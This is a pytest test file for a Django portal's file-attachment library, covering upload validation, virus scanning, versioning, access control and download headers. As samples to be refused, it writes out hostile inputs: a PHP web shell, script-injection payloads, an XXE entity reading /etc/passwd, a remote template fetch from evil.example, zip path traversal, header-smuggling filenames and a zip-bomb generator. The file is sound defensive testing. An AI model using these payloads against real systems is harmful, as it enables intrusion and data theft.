"""Files that readers may take with them: what may come in, how they are served, and what is known of them."""

import io
import shutil
import subprocess
import sys
import zipfile
from urllib.parse import quote

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.defaultfilters import filesizeformat

from ftzportal.library import attachments, checking
from ftzportal.library.models import Attachment, Use
from ftzportal.library.reading import RADICALS
from ftzportal.publishing.models import PreviewLink
from tests import factories, uploads
from tests.queries import queries_of
from tests.test_security_uploads import png_bomb
from tests.uploads import docx, fetched, image_bytes, pdf, zipped

pytestmark = pytest.mark.django_db

ADD = "/en/admin/library/attachment/add/"
ODT = "application/vnd.oasis.opendocument.text"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.fixture
def desk(client, editor):
    client.force_login(editor)
    return client


def upload(client, content, name, **fields):
    data = {"title_en": "Rules", "title_zh_hans": "办法", "owner_area": factories.area().pk, **fields}
    return client.post(ADD, data | {"file": SimpleUploadedFile(name, content)})


def errors_of(response):
    return response.context["adminform"].form.errors


def refusal(content, name):
    with pytest.raises(ValidationError) as refused:
        attachments.keep(io.BytesIO(content), name)
    return refused.value.code


def office(main, **parts):
    return zipped({"[Content_Types].xml": uploads.TYPES, main: "<x/>"} | parts)


def opendocument(kind=ODT, **parts):
    return zipped({"mimetype": kind, "content.xml": "<x/>"} | parts)


# What may come in


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("rules.pdf", pdf()),
        ("rules.docx", docx()),
        ("rules.xlsx", office("xl/workbook.xml")),
        ("rules.pptx", office("ppt/presentation.xml")),
        ("rules.odt", opendocument()),
        ("rules.ods", opendocument("application/vnd.oasis.opendocument.spreadsheet")),
        ("rules.odp", opendocument("application/vnd.oasis.opendocument.presentation")),
        ("rules.ofd", zipped({"OFD.xml": "<ofd/>", "Doc_0/Document.xml": "<x/>"})),
        ("rules.zip", zipped({"a.pdf": pdf(), "b/c.docx": docx()})),
        ("RULES.CSV", "名称,金额\n港口,1\n".encode()),
        ("rules.csv", "名称,金额\n港口,1\n".encode("gb18030")),
        ("rules.txt", "Rules 办法".encode("utf-16")),
        ("rules.txt", b"\xef\xbb\xbfRules\r\n"),
    ],
)
def test_a_file_of_each_kind_is_taken_for_what_it_is(name, content):
    assert attachments.keep(io.BytesIO(content), name).kind == name.rpartition(".")[2].lower()


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("rules.docx", pdf(), "name"),
        ("rules.pdf", docx(), "name"),
        ("rules.zip", docx(), "name"),
        ("rules.txt", pdf(), "name"),
        ("rules", pdf(), "name"),
        ("rules.pdf.exe", pdf(), "name"),
        ("rules.docm", docx(), "name"),
        ("rules.pdf", b"<html><script>alert(1)</script>", "kind"),
        ("rules.html", b"<html><script>alert(1)</script>", "kind"),
        ("rules.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "kind"),
        ("rules.php", b"<?php system($_GET['c']); ?>", "kind"),
        ("rules.exe", b"MZ" + bytes(200), "kind"),
        ("rules.txt", b"MZ" + bytes(200), "kind"),
        ("rules.csv", image_bytes(), "kind"),
        ("rules.pdf", b"", "kind"),
        ("rules.doc", checking.OLD_OFFICE + bytes(600), "old"),
        ("rules.docx", checking.OLD_OFFICE + bytes(600), "old"),
        ("rules.pdf", pdf()[:-200], "broken"),
        ("rules.docx", docx()[:-40], "broken"),
        ("rules.pdf", pdf() + zipped({"a.txt": "x"}), "polyglot"),
        ("rules.zip", b"PK\x03\x04GIF89a" + zipped({"a.txt": "x"}), "polyglot"),
        ("rules.docx", docx(**{"word/vbaProject.bin": b"x"}), "macro"),
        ("rules.docx", docx(**{"[Content_Types].xml": uploads.TYPES.replace("/>", f' x="{MACROS}"/>')}), "macro"),
        ("rules.xlsx", office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": "<x/>"}), "macro"),
        ("rules.odt", opendocument(**{"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
        ("rules.zip", zipped({"a.docx": docx(**{"word/vbaProject.bin": b"x"})}), "macro"),
        ("rules.zip", zipped({"a.docm": docx()}), "packed"),
        ("rules.zip", zipped({"a.exe": b"MZ"}), "packed"),
        ("rules.zip", zipped({"a.zip": zipped({"b.txt": "x"})}), "packed"),
        ("rules.zip", zipped({"a.pdf": docx()}), "name"),
        ("rules.zip", zipped({"../../etc/passwd.txt": "x"}), "path"),
        ("rules.zip", zipped({"/etc/passwd.txt": "x"}), "path"),
        ("rules.docx", docx(before='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), "dtd"),
        (
            "rules.docx",
            docx(
                **{
                    "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="1" Type="http://schemas/attached'
                    'Template" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
                }
            ),
            "fetches",
        ),
    ],
)
def test_anything_else_is_refused_whatever_it_is_called(name, content, code):
    assert refusal(content, name) == code


def bomb(megabytes=300):
    """300 MB of nothing in 300 KB."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", uploads.TYPES)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(bytes(1024 * 1024))
    return content.getvalue()


def test_a_bomb_is_refused_though_it_lies_about_its_size():
    honest = bomb()
    assert len(honest) < 500_000
    assert refusal(honest, "rules.docx") == "bomb"
    with zipfile.ZipFile(io.BytesIO(honest)) as archive:
        size = archive.getinfo("word/document.xml").file_size
    lying = honest.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    assert lying != honest
    assert refusal(lying, "rules.docx") in ("bomb", "broken")
    assert refusal(zipped({f"{nth}.txt": "x" for nth in range(checking.MAX_ENTRIES + 1)}), "rules.zip") == "bomb"


def test_a_locked_archive_is_refused_because_nobody_can_check_it():
    locked = bytearray(zipped({"a.txt": "x"}))
    # The mark of a password, in the part's own header and in the list at the end.
    locked[6] |= 1
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    assert refusal(bytes(locked), "rules.zip") == "locked"


def test_what_is_too_large_is_told_before_it_is_read(desk):
    said = errors_of(upload(desk, pdf() + bytes(checking.MAX_BYTES), "rules.pdf"))
    assert "at most 30.0" in said["file"][0]


def test_two_hundred_megabytes_are_refused_before_their_first_byte(desk):
    class Line:
        """What comes over the line: nobody may read it."""

        def read(self, *_size):
            raise AssertionError("it was read")

        readline = read

    answer = desk.generic("POST", ADD, **{"CONTENT_LENGTH": str(200 * 1024 * 1024), "wsgi.input": Line()})
    assert answer.status_code == 413


@pytest.mark.parametrize("address", [ADD, "/en/admin/library/picture/add/", "/en/admin/library/picture/upload/"])
def test_a_connection_lost_half_way_leaves_nothing(desk, settings, address):
    class Line(io.BytesIO):
        def read(self, *size):
            if not (read := super().read(*size)):
                raise OSError("the other side went away")
            return read

    half = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n' + pdf()
    answer = desk.generic(
        "POST",
        address,
        **{
            "CONTENT_TYPE": "multipart/form-data; boundary=x",
            "CONTENT_LENGTH": "100000",
            "wsgi.input": Line(half),
        },
    )
    assert answer.status_code == 400
    assert not list(settings.MEDIA_ROOT.rglob("*.*"))


def test_a_full_disk_is_told_and_offers_nothing(desk, full_disk, settings):
    with full_disk:
        said = errors_of(upload(desk, zipped({"a.jpg": image_bytes()}), "rules.zip"))
    assert "disk is full" in said["file"][0]
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("关于港口的通知（2026）.pdf", "关于港口的通知（2026）.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\boot.pdf", "boot.pdf"),
        ("a" * 300 + ".pdf", "a" * 100 + ".pdf"),
        ("\u202efdp.exe\u202c.pdf", "fdp-exe.pdf"),
        ("🚢🚢.pdf", "file.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "a-Set-Cookie-x-1.pdf"),
        ('a"; filename="b.exe.pdf', "a-filename-b-exe.pdf"),
        ("Ｒules　of port.PDF", "Ｒules-of-port.pdf"),
    ],
)
def test_of_a_name_stays_what_may_stand_in_an_address(name, kept):
    assert attachments.keep(io.BytesIO(pdf()), name).public_name == kept


# Viruses


@pytest.fixture
def fake_scanner(settings, tmp_path):
    """A program that answers as clamdscan does, and knows one virus."""
    program = tmp_path / "scanner"
    program.write_text(
        f"#!{sys.executable}\nimport sys\nsys.exit(b'EICAR-STANDARD-ANTIVIRUS-TEST-FILE' in sys.stdin.buffer.read())\n"
    )
    program.chmod(0o755)
    settings.VIRUS_SCANNER = f"{program} --no-summary -"


def real_scanner():
    """The command of a ClamAV that runs on this machine, or None."""
    command = ["clamdscan", "--no-summary", "--stream", "-"]
    if not shutil.which("clamdscan"):
        return None
    answers = subprocess.run(command, input=b"x", capture_output=True, check=False).returncode == 0
    return " ".join(command) if answers else None


SCANNERS = ["fake"] + (["real"] if real_scanner() else [])


@pytest.mark.parametrize("scanner", SCANNERS)
def test_a_file_with_a_virus_is_not_kept(desk, settings, request, scanner):
    if scanner == "fake":
        request.getfixturevalue("fake_scanner")
    else:
        settings.VIRUS_SCANNER = real_scanner()
    assert "virus scanner found something" in errors_of(upload(desk, EICAR, "rules.txt"))["file"][0]
    assert not list(settings.MEDIA_ROOT.rglob("*.*"))
    assert upload(desk, b"Nothing but words", "rules.txt").status_code == 302


@pytest.mark.parametrize("program", ["/nowhere/clamdscan -", "false && true", "sh -c 'exit 2'"])
def test_what_could_not_be_checked_is_not_taken(desk, settings, program):
    settings.VIRUS_SCANNER = program
    said = errors_of(upload(desk, pdf(), "rules.pdf"))["file"][0]
    assert "virus scanner" in said
    assert not Attachment.objects.exists()


# What is known of it


def test_pages_and_text_of_a_pdf_are_kept_for_the_search():
    version = uploads.attachment(content=pdf("Port clearance", pages=2)).current
    assert version.pages == 2
    assert version.text.split("\n") == ["Port clearance 1", "Port clearance 2"]


def test_chinese_is_read_in_the_characters_that_people_type():
    # U+2F24 and U+2F1D: radicals that look like 大 and 口, as browsers write them into their PDFs.
    assert "⼤连⽚区的⼝岸".translate(RADICALS) == "大连片区的口岸"


def test_pages_and_text_of_a_docx_are_kept_for_the_search():
    version = uploads.attachment(content=docx("Port clearance\n口岸通关"), name="rules.docx").current
    assert (version.pages, version.text) == (3, "Port clearance\n口岸通关")


def test_a_pdf_that_nobody_can_read_is_offered_without_its_text():
    version = uploads.attachment(content=b"%PDF-1.7\nnothing of the kind\n%%EOF\n").current
    assert (version.pages, version.text) == (None, "")


# In the library, and on pages


def test_an_editor_puts_a_file_into_the_library(desk, editor):
    assert upload(desk, pdf(), "关于港口的通知.pdf").status_code == 302
    attachment = Attachment.objects.get()
    assert attachment.get_absolute_url() == f"/files/{attachment.pk}/{quote('关于港口的通知.pdf')}"
    assert (attachment.kind, attachment.created_by, attachment.current.added_by) == ("pdf", editor, editor)
    assert attachment.current.bytes == len(pdf())


@pytest.mark.parametrize("missing", ["title_en", "title_zh_hans", "file"])
def test_a_file_has_a_title_in_both_languages(desk, missing):
    data = {"title_en": "Rules", "title_zh_hans": "办法", "owner_area": factories.area().pk}
    data |= {"file": SimpleUploadedFile("rules.pdf", pdf())}
    assert missing in errors_of(desk.post(ADD, {name: value for name, value in data.items() if name != missing}))


def test_the_same_file_again_is_offered_instead(desk):
    upload(desk, pdf(), "rules.pdf")
    known = Attachment.objects.get()
    said = errors_of(upload(desk, pdf(), "once-more.pdf"))["file"][0]
    assert f'<a href="/en/admin/library/attachment/{known.pk}/change/">Rules</a>' in said
    assert Attachment.objects.count() == 1


def change(client, attachment, content, name):
    data = {"title_en": "Rules", "title_zh_hans": "办法", "owner_area": attachment.owner_area_id}
    data |= {"file": SimpleUploadedFile(name, content)} if content else {}
    return client.post(f"/en/admin/library/attachment/{attachment.pk}/change/", data)


def test_a_new_version_takes_the_same_address_and_the_old_one_is_kept(desk, client):
    attachment = uploads.attachment(content=pdf("First"))
    address = attachment.get_absolute_url()
    assert change(desk, attachment, pdf("Second"), "other-name.pdf").status_code == 302
    assert client.get(address).getvalue() == pdf("Second")
    assert client.get(f"{address}?version=1").getvalue() == pdf("First")
    assert fetched(client, f"{address}?version=3").status_code == 404
    assert fetched(client, f"{address}?version=x").status_code == 404
    page = client.get(f"/en/admin/library/attachment/{attachment.pk}/change/").content.decode()
    assert f"{address}?version=1" in page
    attachment.refresh_from_db()
    assert attachment.current.number == 2


def test_new_words_make_no_new_version(desk):
    attachment = uploads.attachment()
    assert change(desk, attachment, None, "").status_code == 302
    assert attachment.versions.count() == 1


def test_a_file_is_deleted_with_its_versions_and_not_while_something_links_it(client):
    attachment = uploads.attachment()
    item = factories.news_item(links={"attachments": [attachment]}, body_en=f"<p>{attachment.address_in_texts}</p>")
    client.force_login(factories.administrator())
    address = f"/en/admin/library/attachment/{attachment.pk}/delete/"
    client.post(address, {"post": "yes"})
    assert Attachment.objects.exists()
    item.body_en = "<p>Text</p>"
    item.save()
    assert item.heading in client.post(address, {"post": "yes"}).content.decode()
    assert item.attachments.exists()
    item.attachments.clear()
    client.post(address, {"post": "yes"})
    assert not Attachment.objects.exists()


def test_a_draft_is_deleted_with_what_is_known_of_its_text(desk):
    attachment = uploads.attachment()
    item = factories.news_item(publish_at=None, body_en=f"<p>{attachment.address_in_texts}</p>")
    assert Use.objects.count() == 1
    assert desk.post(f"/en/admin/news/newsitem/{item.pk}/delete/", {"post": "yes"}).status_code == 302
    assert not Use.objects.exists()


def test_a_new_version_is_of_the_same_kind(desk):
    said = errors_of(change(desk, uploads.attachment(), docx(), "rules.docx"))["file"][0]
    assert said == "The address is that of a PDF file. Choose one, or add this file as another."


def test_no_new_version_appears_without_review_beside_something_public(desk):
    attachment = uploads.attachment()
    factories.news_item(links={"attachments": [attachment]})
    assert "without review" in errors_of(change(desk, attachment, pdf("Second"), "rules.pdf"))["file"][0]
    desk.force_login(factories.account("wide", "Zone administrators", area_slug=None))
    assert change(desk, attachment, pdf("Second"), "rules.pdf").status_code == 302


@pytest.mark.parametrize(
    ("make", "kind"),
    [(factories.news_item, "news"), (factories.document, "documents"), (factories.project, "projects")],
)
def test_readers_find_it_on_the_page_with_its_kind_size_and_pages(client, make, kind):
    attachment = uploads.attachment("Rules of the port", content=pdf(pages=3))
    thing = make()
    thing.attachments.add(attachment)
    page = client.get(f"/en/{kind}/{thing.address}/").content.decode()
    assert f'<a href="{attachment.get_absolute_url()}">Rules of the port</a>' in page
    assert f"PDF, {filesizeformat(attachment.current.bytes)}, 3 pages" in page
    assert "中文：Rules of the port" in client.get(f"/zh-hans/{kind}/{thing.address}/").content.decode()


def test_files_are_drafted_compared_and_signed_with_the_rest(client, editor):
    attachment = uploads.attachment("Rules of the port")
    item = factories.news_item()
    factories.revised(item, editor, attachments=[attachment.pk])
    assert not item.attachments.exists()
    client.force_login(editor)
    compared = client.get(f"/en/admin/news/newsitem/{item.pk}/compare/?old=1&new=2").content.decode()
    assert "Rules of the port" in compared
    factories.no_reviews()
    factories.submitted(item, editor)
    assert list(item.attachments.all()) == [attachment]


def test_what_was_signed_before_there_were_files_still_appears(editor):
    item = factories.news_item(publish_at=None)
    factories.no_reviews()
    first = item.newest_revision()
    content = first.content
    del content["fields"]["attachments"]
    content["fields"]["title_en"] = "Signed long ago"
    item.keep_revision(content, editor, "", number=2)
    factories.submitted(item, editor)
    item.refresh_from_db()
    assert (item.title_en, item.has_appeared) == ("Signed long ago", True)


# How it is served


@pytest.fixture
def public():
    attachment = uploads.attachment(content=pdf("Public"))
    factories.news_item(links={"attachments": [attachment]})
    return attachment


def test_a_pdf_is_shown_and_anything_else_is_saved(client, public):
    answer = client.get(public.get_absolute_url())
    assert answer.getvalue() == pdf("Public")
    assert answer.headers["Content-Type"] == "application/pdf"
    assert answer.headers["Content-Disposition"] == 'inline; filename="rules.pdf"'
    assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    other = uploads.attachment("Words", content=docx(), name="通知.docx")
    factories.news_item(links={"attachments": [other]})
    answer = fetched(client, other.get_absolute_url())
    assert answer.headers["Content-Type"] == checking.KINDS["docx"]
    assert answer.headers["Content-Disposition"] == "attachment; filename*=utf-8''%E9%80%9A%E7%9F%A5.docx"
    assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_no_browser_guesses_what_it_is_and_caches_ask_again(client, public):
    answer = fetched(client, public.get_absolute_url())
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "public, max-age=60"
    assert not answer.cookies
    known = {"If-None-Match": answer.headers["ETag"]}
    assert client.get(public.get_absolute_url(), headers=known).status_code == 304
    assert fetched(client, public.get_absolute_url()).headers["Content-Length"] == str(len(pdf("Public")))


def test_another_name_leads_to_the_right_one_and_another_number_nowhere(client, public):
    answer = client.get(f"/files/{public.pk}/old.pdf")
    assert (answer.status_code, answer.headers["Location"]) == (301, public.get_absolute_url())
    for address in (f"/files/{public.pk + 1}/rules.pdf", "/files/0/x", f"/files/{10**30}/x", "/files/x/rules.pdf"):
        assert client.get(address).status_code == 404


def test_nobody_gets_it_at_an_address_of_pictures(client, public):
    assert client.get(f"/media/{public.current.file.name}").status_code == 404


def test_an_older_version_is_for_those_who_work_on_it(client, public):
    assert client.get(f"{public.get_absolute_url()}?version=1").status_code == 404
    client.force_login(factories.account())
    answer = fetched(client, f"{public.get_absolute_url()}?version=1")
    assert (answer.status_code, answer.headers["Cache-Control"]) == (200, "private, no-store")


def test_it_is_public_only_while_something_public_links_it(client):
    attachment = uploads.attachment()
    item = factories.news_item(publish_at=None, links={"attachments": [attachment]})
    address = attachment.get_absolute_url()
    wrong_name = f"/files/{attachment.pk}/x.pdf"
    assert [client.get(path).status_code for path in (address, wrong_name)] == [404, 404]
    item.publish()
    assert fetched(client, address).status_code == 200
    item.withdraw("Wrong", "有误")
    assert client.get(address).status_code == 404


def test_a_text_that_links_it_makes_it_as_public_as_the_text(client):
    attachment = uploads.attachment()
    link = f'<p><a href="https://testserver{attachment.get_absolute_url()}">Rules</a></p>'
    item = factories.news_item(publish_at=None, body_en=link)
    assert Use.objects.get().attachment == attachment
    assert client.get(attachment.get_absolute_url()).status_code == 404
    item.publish()
    assert fetched(client, attachment.get_absolute_url()).status_code == 200


def test_who_works_on_it_or_opened_a_preview_link_gets_it_before(client, editor):
    attachment = uploads.attachment()
    item = factories.news_item(publish_at=None, links={"attachments": [attachment]})
    _link, token = PreviewLink.make(item.newest_revision(), by=editor)
    client.get(f"/en/preview/{token}/")
    assert fetched(client, attachment.get_absolute_url()).status_code == 200
    client.cookies.clear()
    assert client.get(attachment.get_absolute_url()).status_code == 404
    client.force_login(editor)
    assert fetched(client, attachment.get_absolute_url()).status_code == 200
    client.force_login(factories.account("li", area_slug="shenyang"))
    assert client.get(attachment.get_absolute_url()).status_code == 404


def test_a_public_file_costs_one_question_of_the_database(client, public):
    assert queries_of(client, public.get_absolute_url()) == 1


def test_a_file_that_is_gone_from_the_disk_is_not_there(client, public):
    default_storage.delete(public.current.file.name)
    assert client.get(public.get_absolute_url()).status_code == 404


def test_no_picture_comes_in_as_a_file():
    for content in (image_bytes(), png_bomb(200)):
        assert refusal(content, "quay.jpg") == "kind"
